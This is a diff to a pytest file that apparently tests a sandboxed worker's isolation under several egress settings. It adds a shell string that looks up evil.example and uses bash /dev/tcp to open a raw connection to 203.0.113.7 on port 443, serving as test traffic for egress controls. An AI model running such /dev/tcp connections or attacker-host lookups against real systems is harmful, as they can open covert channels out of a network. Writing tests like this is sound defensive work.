@@ -1,12 +1,16 @@
 """A worker imports nothing, and reads no file of Python or Airlock: an upgrade may replace them."""
 
+import socket
 import sys
 from pathlib import Path
 
 import pytest
 
+from tests.attacks import outside
+from tests.fakes import zone
 from tests.faults.direct import direct
 from tests.faults.jobs import run_to_end
+from tests.lab import world
 from tests.lab.lab import Fleet
 from tests.lab.service import serving
 
@@ -22,15 +26,33 @@ FILES = (
 )
 
 
-def test_worker_imports_and_reads_nothing_of_ours(fleet: Fleet, tmp_path: Path) -> None:
+LOOKUPS = (
+    "getent ahosts git.allowed.example; getent ahosts evil.example; "
+    "bash -c 'echo x >/dev/tcp/203.0.113.7/443'; true"
+)
+
+
+@pytest.mark.parametrize(
+    "allow",
+    ["", 'egress: {hosts: "*.allowed.example"}, ', "egress: {mode: observe}, "],
+    ids=["plain", "egress", "egress-observed"],
+)
+def test_worker_imports_and_reads_nothing_of_ours(fleet: Fleet, tmp_path: Path, allow: str) -> None:
     seen = tmp_path / "seen"
-    with direct(fleet) as jobs:
+    with direct(fleet, allow) as jobs:
         program = (sys.executable, "-I", str(AUDITED), str(seen))
-        with serving(fleet, program=program, config=jobs.config) as service:
-            run_to_end(jobs.start(program=service.launcher))
+        with (
+            serving(fleet, program=program, config=jobs.config) as service,
+            zone.serving(outside.ZONE, *world.inside_world(_resolver)),
+        ):
+            run_to_end(jobs.start(LOOKUPS, program=service.launcher))
     lines = seen.read_text().splitlines()
     assert len(lines) > 50, "the list of a whole job is longer: is the hook at work?"
     imported = [line for line in lines if line.startswith("import ")]
     read = [line for line in lines if line.removeprefix("open ").startswith(FILES)]
     assert not imported
     assert not read
+
+
+def _resolver() -> tuple[socket.socket, socket.socket]:
+    return zone.sockets(world.WORLD)
